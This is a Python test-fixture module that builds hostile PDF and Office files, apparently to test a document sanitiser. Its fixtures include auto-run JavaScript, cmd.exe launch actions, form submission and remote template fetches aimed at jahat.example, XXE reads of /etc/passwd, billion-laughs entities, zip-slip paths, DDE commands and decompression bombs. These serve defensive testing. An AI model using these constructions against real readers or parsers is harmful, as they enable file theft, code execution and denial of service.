"""Papers and sheets that run, fetch, hide or swell: a maker for each."""

import bz2
import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.hostile_pictures import MARK, SCRIPT, Maker, photo

Change = Callable[[pikepdf.Pdf], object]
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CELLS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENT = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>'
SCRIPTED = Dictionary(S=Name.JavaScript, JS=f"app.alert('{MARK.decode()}')")


def pdf(change: Change = lambda _pdf: None, *, pages: int = 1, **saving: Any) -> bytes:
    """A paper of empty pages, changed."""
    made, file = pikepdf.new(), io.BytesIO()
    for _ in range(pages):
        made.add_blank_page()
    change(made)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # that it is a strange paper
        made.save(file, **saving)
    return file.getvalue()


def annotated(**named: Any) -> Maker:
    """A paper with one annotation."""

    def put(made: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **named)
        made.pages[0].obj.Annots = Array([made.make_indirect(note)])

    return lambda: pdf(put)


def linked(**action: Any) -> Maker:
    """A paper with a place that does something when it is pressed."""
    return annotated(Subtype=Name.Link, A=Dictionary(**action))


def with_root(**named: Any) -> Maker:
    """A paper whose root says something more."""

    def put(made: pikepdf.Pdf) -> None:
        for name, value in named.items():
            made.Root[f"/{name}"] = value

    return lambda: pdf(put)


def with_file() -> bytes:
    def put(made: pikepdf.Pdf) -> None:
        made.attachments["x.exe"] = MARK

    return pdf(put)


def from_outside() -> bytes:
    def put(made: pikepdf.Pdf) -> None:
        stream = made.make_stream(b"")
        stream.stream_dict.F = "http://jahat.example/x"
        made.Root.Outside = stream

    return pdf(put)


def nested(depth: int) -> bytes:
    inner = b"[" * depth + b"]" * depth
    return raw_pdf([b"<</Type/Catalog/Pages 2 0 R/Deep " + inner + b">>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"])


def raw_pdf(
    objects: list[bytes], *, page: bytes = b"<</Type/Page/Parent 2 0 R/Resources<<>>/MediaBox[0 0 9 9]>>", tail: bytes = b""
) -> bytes:
    """A paper written by hand, from the objects before its only page."""
    written, places = b"%PDF-1.7\n", list[int]()
    for number, content in enumerate([*objects, page], 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return written + table + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, tail, len(written))


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
ROOT = b"<</Type/Catalog/Pages 2 0 R>>"

PAPERS: dict[str, Maker] = {
    "a paper with a script that runs as it opens": with_root(OpenAction=SCRIPTED),
    "a paper with a script among its names": with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array(["x", SCRIPTED])))),
    "a paper with a script behind a page": lambda: pdf(lambda made: made.pages[0].obj.__setitem__("/AA", Dictionary(O=SCRIPTED))),
    "a paper with a script behind a field": annotated(Subtype=Name.Widget, AA=Dictionary(K=SCRIPTED)),
    "a paper with a script in a packed object": lambda: pdf(
        lambda made: made.Root.__setitem__("/Hidden", made.make_indirect(SCRIPTED)), object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "a paper with a script whose name is disguised": lambda: raw_pdf([ROOT[:-2] + b"/OpenAction<</S/J#61vaScript/J#53(x)>>>>", PAGES]),
    "a paper that starts a program": linked(S=Name.Launch, F="cmd.exe"),
    "a paper that sends a form": linked(S=Name.SubmitForm, F="http://jahat.example"),
    "a paper that takes data in": linked(S=Name.ImportData, F="x.fdf"),
    "a paper that opens a paper within": linked(S=Name.GoToE, T=Dictionary(R=Name.C)),
    "a paper that opens a file of a neighbour": linked(S=Name.GoToR, F="\\\\jahat\\x.pdf"),
    "a paper that links to a file of the reader": linked(S=Name.URI, URI="file:///etc/passwd"),
    "a paper that links to a script": linked(S=Name.URI, URI="javascript:alert(1)"),
    "a paper that links to a neighbour's folder": linked(S=Name.URI, URI="\\\\jahat\\x"),
    "a paper with a link to a page": linked(S=Name.URI, URI="https://contoh.example/"),
    "a paper with a file within": with_file,
    "a paper with a file pinned to it": annotated(Subtype=Name.FileAttachment),
    "a paper with a player": annotated(Subtype=Name.RichMedia),
    "a paper with a film": annotated(Subtype=Name.Movie),
    "a paper with a screen": annotated(Subtype=Name.Screen),
    "a paper with a body in three dimensions": annotated(Subtype=Name("/3D")),
    "a paper with a form of its own kind": with_root(AcroForm=Dictionary(XFA="x")),
    "a paper that is a case of papers": with_root(Collection=Dictionary(View=Name.D)),
    "a paper that fetches a stream": from_outside,
    "a paper locked for everybody": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    "a paper locked against printing": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")),
    "a paper locked the old way": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b", R=4)),
    "half a paper": lambda: pdf(pages=20)[:700],
    "the first words of a paper": lambda: b"%PDF-1.7\n%%EOF",
    "a paper without a table": lambda: pdf().replace(b"startxref", b"startxxxx"),
    "a paper with a long page of script behind it": lambda: pdf() + SCRIPT * 500,
    "a paper that is an archive too": lambda: pdf() + archive({"x.html": SCRIPT}),
    "a paper behind a page": lambda: SCRIPT + pdf(),
    "a paper behind an archive": lambda: b"PK\x03\x04" + pdf(),
    "a paper of three hundred and one pages": lambda: pdf(pages=301),
    "a paper without pages": lambda: pdf(pages=0),
    "a paper whose pages are its pages": lambda: raw_pdf([ROOT, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99>>"]),
    "a paper of a hundred thousand brackets": lambda: nested(100_000),
    "a paper whose table leads back to itself": lambda: raw_pdf([ROOT, PAGES], tail=b"/Prev 9"),
    "a paper of three hundred thousand words": lambda: raw_pdf([ROOT[:-2] + b"/X[" + b"[] " * 300_000 + b"]>>", PAGES]),
    "a paper with a packed stream of a hundred megabytes": lambda: pdf(
        lambda made: made.Root.__setitem__(
            "/Big", pikepdf.Stream(made, zlib.compress(b"\0" * 100_000_000, 9), {"/Filter": Name.FlateDecode})
        )
    ),
}


def archive(members: Mapping[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of members."""
    file = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(file, "w", how) as made:
        warnings.simplefilter("ignore")
        for name, content in members.items():
            made.writestr(name, content)
    return file.getvalue()


def relations(*found: tuple[str, str, bool]) -> bytes:
    """Relations, each by kind, target and whether it leads outside."""
    lines = [
        f'<Relationship Id="r{place}" Type="{kind if "://" in kind else f"{RELATION}/{kind}"}" Target="{target}"'
        + (' TargetMode="External"/>' if outside else "/>")
        for place, (kind, target, outside) in enumerate(found)
    ]
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{space}">{"".join(lines)}</Relationships>'.encode()


def parts(main: str = "word/document.xml", kind: str = WORD, **more: bytes) -> dict[str, bytes]:
    """The parts of a document or sheet; further ones by their names, with `__` for a slash and `_xml` for an end."""
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    types = f'<Types xmlns="{space}"><Override PartName="/{main}" ContentType="{kind}"/></Types>'
    named = {name.replace("__", "/"): content for name, content in more.items()}
    return {"[Content_Types].xml": types.encode(), "_rels/.rels": relations(("officeDocument", main, False)), main: DOCUMENT, **named}


def office(extra: Mapping[str, bytes] | None = None, how: int = zipfile.ZIP_DEFLATED, **named: Any) -> bytes:
    """A document with further members."""
    return archive({**parts(**named), **(extra or {})}, how)


def related(*found: tuple[str, str, bool]) -> Maker:
    return lambda: office({"word/_rels/document.xml.rels": relations(*found)})


def entities(place: str) -> Maker:
    """A document in which one word stands for a billion."""
    words = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 9))
    bomb = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "{MARK.decode()}">{words}]><x>&a8;</x>'.encode()
    return lambda: office({place: bomb})


def lying(change: Callable[[bytes], bytes]) -> Maker:
    return lambda: change(office())


def encrypted(whole: bytes) -> bytes:
    """With the bit that says that the first member is locked, in both of its heads."""
    central = whole.index(b"PK\x01\x02")
    first = whole[:6] + b"\x01\0" + whole[8:]
    return first[: central + 8] + b"\x01\0" + first[central + 10 :]


def with_wrong_sum(whole: bytes) -> bytes:
    """With another sum of the first member than it has."""
    central = whole.index(b"PK\x01\x02") + 16
    return whole[:central] + b"\1\2\3\4" + whole[central + 4 :]


def symlinked() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        for name, content in parts().items():
            made.writestr(name, content)
        link = zipfile.ZipInfo("word/media/x")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return file.getvalue()


SHEET = {"main": "xl/workbook.xml", "kind": CELLS}
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"

OFFICE: dict[str, Maker] = {
    "a document with macros": lambda: office({"word/vbaProject.bin": MARK}),
    "a document with macros by another case": lambda: office({"word/VBAPROJECT.BIN": MARK}),
    "a document that says it has macros": lambda: office(kind=MACROS),
    "a sheet with macros": lambda: office({"xl/vbaProject.bin": MARK}, **SHEET),
    "a sheet of the old macros": lambda: office({"xl/macrosheets/sheet1.xml": b"<x/>"}, **SHEET),
    "a document with a control": lambda: office({"word/activeX/activeX1.bin": MARK}),
    "a document with an object": lambda: office({"word/embeddings/oleObject1.bin": MARK}),
    "a document that fetches its template": related(("attachedTemplate", "http://jahat.example/x.dotm", True)),
    "a document that fetches a picture": related(("image", "http://jahat.example/x.png", True)),
    "a document that fetches an object": related(("oleObject", "http://jahat.example/x", True)),
    "a document with a page in place of a part": related(("aFChunk", "x.html", False)),
    "a document of other documents": related(("subDocument", "http://jahat.example/x.docx", True)),
    "a document that links to a file": related(("hyperlink", "file:///etc/passwd", True)),
    "a document that links to a script": related(("hyperlink", "javascript:alert(1)", True)),
    "a document that links to a neighbour": related(("hyperlink", "\\\\jahat\\x", True)),
    "a document with a link to a page": related(("hyperlink", "https://contoh.example/", True)),
    "a sheet that reads another": lambda: office({"xl/_rels/x.rels": relations(("externalLinkPath", "x.xlsx", True))}, **SHEET),
    "a document that asks another program": lambda: office({"word/x.xml": b"<x>DDEAUTO cmd</x>"}),
    "a sheet that asks another program": lambda: office({"xl/externalLinks/x.xml": b"<ddeLink/>"}, **SHEET),
    "a document of a billion words": entities("word/x.xml"),
    "a document with a billion relations": entities("word/_rels/document.xml.rels"),
    "a document that reads a file": lambda: office(
        {"word/_rels/document.xml.rels": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}
    ),
    "a document that hides its entities in wide letters": lambda: office(
        {"word/x.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")}
    ),
    "a document that unpacks to a thousand times its size": lambda: office({"word/media/x.bmp": b"\0" * 50_000_000}),
    "a document that unpacks to three hundred megabytes": lambda: office({f"word/x{n}.bmp": b"\0" * 30_000_000 for n in range(10)}),
    "a document of five thousand parts": lambda: office({f"word/{n}.xml": b"<x/>" for n in range(5_000)}),
    "a document with a way out": lambda: office({"../../../../tmp/" + MARK.decode(): b"x"}),
    "a document with a way from the top": lambda: office({"/tmp/" + MARK.decode(): b"x"}),
    "a document with a way of Windows": lambda: office({"..\\..\\" + MARK.decode(): b"x"}),
    "a document with a drive": lambda: office({"C:" + MARK.decode(): b"x"}),
    "a document with a pointer to a file": symlinked,
    "a document that says a part twice": lambda: office({"Word/Document.xml": DOCUMENT}),
    "a locked document": lying(encrypted),
    "a document packed in another way": lambda: office(how=zipfile.ZIP_BZIP2),
    "a document packed in a third way": lambda: office(how=zipfile.ZIP_LZMA),
    "a document with a script behind it": lambda: office() + SCRIPT,
    "a document behind a program": lambda: b"MZ\x90\0" + office(),
    "a document with another sum": lying(with_wrong_sum),
    "half a document": lying(lambda whole: whole[: len(whole) // 2]),
    "an archive": lambda: archive({"x.html": SCRIPT}),
    "a program of Java": lambda: archive({"META-INF/MANIFEST.MF": MARK, "x.class": b"\xca\xfe\xba\xbe"}),
    "a document of another office": lambda: archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
    "a document with an archive in it": lambda: office({"word/media/x.png": archive({"x": MARK})}),
    "a document with a program in it": lambda: office({"word/media/x.png": b"MZ\x90\0" + MARK}),
    "a document with an old document in it": lambda: office({"word/media/x.png": b"\xd0\xcf\x11\xe0" + MARK}),
    "a document that begins like a paper": lambda: archive({"%PDF-1.7": MARK, **parts()}, zipfile.ZIP_STORED),
    "a document whose parts are no text": lambda: office({"_rels/.rels": bz2.compress(SCRIPT)}),
    "a document that tells a wrong number of parts": lying(
        lambda whole: whole[: whole.rindex(b"PK\x05\x06") + 8] + struct.pack("<HH", 900, 900) + whole[whole.rindex(b"PK\x05\x06") + 12 :]
    ),
    "a photo named as a part": lambda: office({"word/media/x.jpg": photo()}),
}
